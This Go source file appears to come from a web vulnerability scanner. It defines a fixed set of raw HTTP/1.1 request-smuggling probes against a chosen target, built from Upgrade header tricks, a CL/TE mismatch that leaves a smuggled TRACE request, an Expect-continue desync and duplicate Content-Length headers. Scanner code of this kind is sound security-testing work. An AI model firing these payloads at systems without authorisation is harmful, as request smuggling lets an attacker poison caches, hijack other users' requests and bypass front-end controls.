package probes

import (
	"fmt"
	"net"
	"strconv"

	"github.com/pyneda/trailscan/lib"
)

// SmugglingPayload is one raw HTTP/1.1 request template, already rendered
// against a specific target's authority and path.
type SmugglingPayload struct {
	Name string
	Raw  []byte
}

func (p SmugglingPayload) String() string {
	return p.Name
}

// buildSmugglingPayloads templates TrailSmug's fixed battery of raw requests
// against the target's authority and path, exercising Upgrade/Content-Length
// interactions an RFC-compliant client would refuse to emit. Each payload
// carries a random X-Smuggle-Marker header; cl-undercount-trailing-trace
// also leaves a smuggled TRACE request fragment in the connection buffer
// that a vulnerable intermediary forwards as the start of the next request.
func buildSmugglingPayloads(components lib.URLComponents, path string) []SmugglingPayload {
	host := components.Host
	if (components.UseTLS && components.Port != 443) || (!components.UseTLS && components.Port != 80) {
		host = net.JoinHostPort(components.Host, strconv.Itoa(components.Port))
	}
	marker := lib.GenerateRandomLowercaseString(8)

	return []SmugglingPayload{
		{
			Name: "upgrade-h2c-websocket",
			Raw: []byte(fmt.Sprintf(
				"GET %s HTTP/1.1\r\n"+
					"Host: %s\r\n"+
					"Connection: upgrade\r\n"+
					"Upgrade: h2c, websocket\r\n"+
					"X-Smuggle-Marker: %s\r\n"+
					"\r\n",
				path, host, marker)),
		},
		{
			Name: "upgrade-folded-continuation",
			Raw: []byte(fmt.Sprintf(
				"GET %s HTTP/1.1\r\n"+
					"Host: %s\r\n"+
					"Connection: upgrade\r\n"+
					"Upgrade: h2c,\r\n"+
					" websocket\r\n"+
					"X-Smuggle-Marker: %s\r\n"+
					"\r\n",
				path, host, marker)),
		},
		{
			Name: "cl-undercount-trailing-trace",
			Raw:  clUndercountPayload(host, path, marker),
		},
		{
			Name: "expect-continue-desync",
			Raw: []byte(fmt.Sprintf(
				"POST %s HTTP/1.1\r\n"+
					"Host: %s\r\n"+
					"Content-Type: application/x-www-form-urlencoded\r\n"+
					"Content-Length: 4\r\n"+
					"Expect: 100-continue\r\n"+
					"X-Smuggle-Marker: %s\r\n"+
					"\r\n"+
					"a=1&extra=ignored",
				path, host, marker)),
		},
		{
			Name: "double-content-length",
			Raw: []byte(fmt.Sprintf(
				"POST %s HTTP/1.1\r\n"+
					"Host: %s\r\n"+
					"Content-Type: application/x-www-form-urlencoded\r\n"+
					"Content-Length: 6\r\n"+
					"Content-Length: 0\r\n"+
					"X-Smuggle-Marker: %s\r\n"+
					"\r\n"+
					"a=123",
				path, host, marker)),
		},
	}
}

// clUndercountPayload declares a Content-Length shorter than the body,
// leaving a trailing TRACE-shaped fragment for a backend that trusts the
// frontend's framing to treat as the start of the following request.
func clUndercountPayload(host, path, marker string) []byte {
	smuggled := fmt.Sprintf("TRACE %s HTTP/1.1\r\nX-Smuggle-Marker: %s\r\n\r\n", path, marker)
	body := "0\r\n\r\n" + smuggled
	return []byte(fmt.Sprintf(
		"POST %s HTTP/1.1\r\n"+
			"Host: %s\r\n"+
			"Content-Type: application/x-www-form-urlencoded\r\n"+
			"Content-Length: 5\r\n"+
			"Transfer-Encoding: chunked\r\n"+
			"\r\n"+
			"%s",
		path, host, body))
}
